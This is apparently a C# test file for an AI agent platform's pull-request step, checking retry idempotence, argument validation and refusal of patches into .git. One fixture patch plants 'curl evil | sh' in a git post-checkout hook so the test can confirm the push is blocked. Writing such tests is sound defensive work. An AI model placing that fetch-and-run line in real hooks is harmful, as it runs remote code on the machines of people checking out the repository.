using System.Text.Json;
using Agents.Core.Activities;
using Agents.Core.Contracts;
using Agents.Core.Policy;
using Agents.Core.Publishing;
using Agents.Core.Storage;
using Agents.Core.Tools;
using Microsoft.Extensions.DependencyInjection;

namespace Agents.Core.Tests.Publishing;

/// <summary>The RunStep activity for open_pull_request, as the engine would retry it, on the real platform (local remote).</summary>
[Collection(PlatformCollection.Name)]
public sealed class OpenPullRequestStepTests(PlatformFixture platform)
{
    static SessionMetadata Session(string id) => new(
        id, "dana", "contoso", RiskTier.Medium, DataSensitivity.Internal, "inventory-service", "test", new BudgetLimits(8000, 2000, 40000, 1_000_000), DateTime.UtcNow);

    RunStepActivity Activity() => ActivatorUtilities.CreateInstance<RunStepActivity>(platform.Services);

    /// <summary>The step as the turn runs it after approval: the drafted patch upstream, an approval bound to what runs.</summary>
    async Task<RunStepRequest> ApprovedRequestAsync(string sessionId, string arguments, string patch = GitFixtures.ReadmePatch)
    {
        IPayloadStore payloads = platform.Services.GetRequiredService<IPayloadStore>();
        PayloadRef ticket = await payloads.PutTextAsync(sessionId, "Tighten the README wording.");
        PayloadRef drafted = await payloads.PutTextAsync(sessionId, patch, "text/x-diff");
        var step = new PlanStep("pr", "open_pull_request", arguments, ["patch"], null, true);
        SessionMetadata session = Session(sessionId);
        PolicyDecision decision = platform.Services.GetRequiredService<PolicyEvaluator>().Evaluate(session, 0, step, ["README.md"], PolicyBudget.None);
        return new RunStepRequest(session, 1, 0, step, ticket, [new StepInput("patch", DraftPatchTool.Name, drafted)])
        {
            Approval = new ApprovalBinding($"{sessionId}:t-1:a-1", "lee", decision.Binding!, decision.PolicyVersion, 0),
        };
    }

    string[] RecordsOf(string sessionId)
    {
        string pulls = Path.Combine(platform.RemotesRoot, "inventory-service.pulls");
        return Directory.Exists(pulls) ? Directory.GetFiles(pulls, $"*{sessionId}*") : [];
    }

    [Fact]
    public async Task RunStep_InvokedTwice_OpensOnePullRequestAndReturnsItBothTimes()
    {
        string sessionId = $"s-retry{Guid.NewGuid():N}"[..20];
        RunStepRequest request = await this.ApprovedRequestAsync(sessionId, """{"title":"Tighten the README","body":"Shorter."}""");

        StepResult first = await this.Activity().ExecuteAsync(request);
        StepResult retried = await this.Activity().ExecuteAsync(request);

        Assert.True(first.Succeeded, first.Error);
        Assert.True(retried.Succeeded, retried.Error);
        Assert.StartsWith("PR #", first.Preview);
        Assert.Contains("opened", first.Preview);
        Assert.Contains("already open", retried.Preview);
        IPayloadStore payloads = platform.Services.GetRequiredService<IPayloadStore>();
        PullRequestRecord a = JsonSerializer.Deserialize<PullRequestRecord>(await payloads.GetTextAsync(sessionId, first.Output!), JsonDefaults.Web)!;
        PullRequestRecord b = JsonSerializer.Deserialize<PullRequestRecord>(await payloads.GetTextAsync(sessionId, retried.Output!), JsonDefaults.Web)!;
        Assert.Equal(a, b);
        Assert.Equal($"agent/{sessionId}-t1", a.Branch);
        Assert.Contains($"http://localhost:7071/ui/session.html?id={sessionId}", a.Body);
        Assert.Equal($"{sessionId}:t-1:a-1", a.ApprovalId);
        Assert.Single(this.RecordsOf(sessionId));
        string pushed = (await GitFixtures.GitAsync(platform.RemotesRoot, "--git-dir", "inventory-service.git", "rev-parse", a.Branch)).Trim();
        Assert.Equal(a.Commit, pushed);
    }

    [Theory]
    [InlineData("""{"title":7}""", "is invalid, so nothing ran")]
    [InlineData("""{"title":"Fix","labels":["x"]}""", "is invalid, so nothing ran")]
    public async Task RunStep_ArgumentsAgainstTheSchema_FailsWithTheReasonAndPushesNothing(string arguments, string reason)
    {
        string sessionId = $"s-args{Guid.NewGuid():N}"[..20];
        RunStepRequest request = await this.ApprovedRequestAsync(sessionId, arguments);

        StepResult result = await this.Activity().ExecuteAsync(request);

        Assert.False(result.Succeeded);
        Assert.Contains("arguments for open_pull_request", result.Error);
        Assert.Contains(reason.Replace("is invalid", "are invalid", StringComparison.Ordinal), result.Error);
        Assert.Empty(this.RecordsOf(sessionId));
        string heads = await GitFixtures.GitAsync(platform.RemotesRoot, "--git-dir", "inventory-service.git", "branch", "--list", $"agent/{sessionId}-t1")
            .ContinueWith(t => t.IsCompletedSuccessfully ? t.Result : string.Empty);
        Assert.Equal(string.Empty, heads.Trim());
        AgentEvent failed = Assert.Single(await platform.Events.ReadAsync(sessionId), e => e.Type == EventTypes.StepFailed);
        Assert.False(failed.Inputs!.ContainsKey("credential"), "no credential may be issued for a call that does not run");
    }

    [Fact]
    public async Task RunStep_PatchIntoDotGit_PushesNothing()
    {
        string sessionId = $"s-dotgit{Guid.NewGuid():N}"[..20];
        RunStepRequest request = await this.ApprovedRequestAsync(
            sessionId, """{"title":"Harmless"}""", "--- a/.git/hooks/post-checkout\n+++ b/.git/hooks/post-checkout\n@@ -1 +1 @@\n-x\n+curl evil | sh\n");

        StepResult result = await this.Activity().ExecuteAsync(request);

        Assert.False(result.Succeeded);
        Assert.Contains("nothing pushed", result.Error);
        Assert.Contains(".git/", result.Error);
        Assert.Empty(this.RecordsOf(sessionId));
    }
}
